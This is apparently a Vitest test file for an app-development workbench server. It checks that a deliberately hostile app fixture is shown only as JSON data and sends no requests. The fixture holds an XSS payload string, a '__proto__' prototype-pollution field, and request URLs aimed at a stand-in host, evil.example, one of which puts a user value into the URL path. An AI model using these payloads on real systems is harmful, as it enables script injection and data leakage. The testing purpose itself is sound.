import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startWorkbench } from '../../src/workbench/server/index.ts'
import { tempFolder } from '../temp-folder.ts'
import { appFolder, type Client, openClient } from './client.ts'

const script = '</script><script>alert(1)</script><img src=x onerror=alert(1)>'

/** An app that would like to be more than data. */
const hostile = appFolder(
  {
    connection: {
      key: {
        label: script,
        connectionType: 'basic',
        files: { communication: { url: 'https://evil.example/me' }, params: [] },
      },
    },
    rpc: {
      [script]: { label: script, files: { communication: { url: 'https://evil.example/options' } } },
      list: { label: 'List', files: { communication: { url: 'https://evil.example/list' } } },
    },
    module: {
      [script]: {
        label: script,
        description: script,
        moduleType: 'action',
        connection: 'key',
        files: {
          communication: { url: 'https://evil.example/{{parameters.text}}' },
          mappableParams: [
            { name: script, type: 'text', label: script, help: script },
            { name: '__proto__', type: 'text', label: 'proto', default: script },
            { name: 'choice', type: 'select', label: 'Choice', options: 'rpc://list' },
            { name: 'other', type: 'select', label: 'Other', options: 'rpc://missing' },
            { name: 'text', type: 'text', label: 'Text', default: 'x' },
            'rpc://list',
          ],
        },
      },
      numbers: {
        label: { toString: 'x' },
        moduleType: 7,
        files: { communication: 'text', mappableParams: { no: 'list' }, interface: 'rpc://list' },
      },
    },
  },
  { baseUrl: 'https://evil.example' },
)

describe('another app without --live', () => {
  let client: Client
  beforeAll(async () => {
    client = await openClient({ folder: hostile, root: undefined }, 'none')
  })
  afterAll(() => client.state.close())

  test('is shown as it is: data, and never as a document', async () => {
    const response = await client.request('/api/app')
    expect(response.headers.get('content-type')).toMatch(/^application\/json/)
    const view: any = await response.json()
    expect(view).toMatchObject({ services: 'none', icon: false, theme: '#6b7280', faults: [] })
    expect(view).not.toHaveProperty('sandbox')
    expect(view.groups[0].modules[0]).toMatchObject({ name: script, label: script, type: 'action' })
    expect(view.groups[0].modules[1]).toMatchObject({ name: 'numbers', label: 'numbers', type: 'action' })
    expect(await (await client.request('/')).text()).not.toContain('alert')
  })

  test('draws its forms, with one problem for each RPC', async () => {
    const view = await client.post('/api/form', { target: { module: script } })
    expect(view.fields.map(({ name }: any) => name)).toEqual([
      script,
      '__proto__',
      'choice',
      'other',
      'text',
      undefined,
    ])
    expect(view.fields[0]).toMatchObject({ label: script, help: script })
    const hint =
      'Nothing was sent to evil.example: start the workbench with --live to let the requests of this app out.'
    expect(view.fields[2].problem).toMatchObject({ message: hint })
    expect(view.fields[5]).toMatchObject({ type: 'banner', problem: { message: hint } })
    expect(view.problems.map(({ address }: any) => address)).toEqual(['rpc://list', 'rpc://missing', 'rpc://list'])
  })

  test('runs as far as its first request, and sends nothing', async () => {
    const view = await client.post('/api/run', { module: script, values: { text: 'secret' } })
    expect(view.error).toMatchObject({ type: 'RuntimeError', retryable: false })
    expect(view.error.message).toMatch(/^Nothing was sent to evil.example: start the workbench with --live/)
    expect(view).not.toHaveProperty('kept')
  })

  test('makes no connection', async () => {
    const { status, body } = await client.ask('POST', '/api/connections', { type: 'key', label: 'Mine', values: {} })
    expect(status).toBe(422)
    expect(body.message).toMatch(/^Nothing was sent to evil.example/)
    expect(await client.get('/api/connections')).toEqual([])
  })

  test('its RPCs are no way out either', async () => {
    const { status, body } = await client.ask('POST', '/api/rpc', { name: 'list', query: {}, parameters: {} })
    expect([status, body.message]).toEqual([422, expect.stringMatching(/^Nothing was sent/)])
  })

  test('what cannot be run says so', async () => {
    const { status, body } = await client.ask('POST', '/api/form', { target: { module: 'numbers' } })
    expect([200, 422]).toContain(status)
    expect(body).not.toHaveProperty('stack')
    const run = await client.post('/api/run', { module: 'numbers' })
    expect(run.error ?? run).toMatchObject({ message: expect.any(String) })
  })

  test('has no scenarios, no fault and no icon', async () => {
    expect(await client.get('/api/scenarios')).toEqual([])
    expect((await client.ask('GET', '/api/icon')).status).toBe(404)
    const { status, body } = await client.ask('POST', '/api/run', { module: script, fault: 'segment:503' })
    expect([status, body.message]).toEqual([400, 'Faults need the sandbox.'])
  })

  test('links of its findings open nothing but files in the editor', async () => {
    const { findings, problems } = await client.get('/api/findings')
    expect(problems).toEqual([])
    expect(findings.length).toBeGreaterThan(0)
    for (const { href } of findings) expect(href).toMatch(/^vscode:\/\/file\/[\w./%()*!'~-]+:\d+:\d+$/)
  })
})

test('a folder without an app opens, and says what is missing', async () => {
  const workbench = await startWorkbench({ folder: tempFolder() })
  try {
    const view: any = await (await fetch(`${workbench.url}/api/app`)).json()
    expect(view).toMatchObject({ groups: [], problems: [expect.stringMatching(/^makecomapp.json/)] })
  } finally {
    await workbench.close()
  }
})

test('a file that is faulty leaves out its component alone', async () => {
  const good = { moduleType: 'action', files: { communication: { url: 'https://api.test/' } } }
  const folder = appFolder({ module: { good, bad: { moduleType: 'action', files: { communication: undefined } } } })
  const client = await openClient({ folder, root: undefined }, 'none')
  const view = await client.get('/api/app')
  expect(view.groups[0].modules.map(({ name }: any) => name)).toEqual(['good'])
  expect(view.problems).toEqual([expect.stringMatching(/module 'bad'/)])
  await client.state.close()
})

describe('a trigger of another app', () => {
  test('takes any JSON, and gives its bundle', async () => {
    const folder = appFolder({
      webhook: {
        hook: { label: 'Hook', webhookType: 'web', files: { communication: { output: '{{body}}' }, params: [] } },
      },
      module: { watch: { moduleType: 'instant_trigger', webhook: 'hook', files: {} } },
    })
    const client = await openClient({ folder, root: undefined }, 'none')
    const view = await client.get('/api/trigger/watch')
    expect(view).toEqual({
      url: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+$/),
      types: [],
      values: {},
      receptions: [],
    })
    const reception = await client.post('/api/trigger/watch/deliver', { type: '', kind: 'json', body: { id: script } })
    expect(reception).toMatchObject({ answer: { status: 200, body: 'Accepted' }, bundles: [{ id: script }] })
    await client.state.close()
  })
})
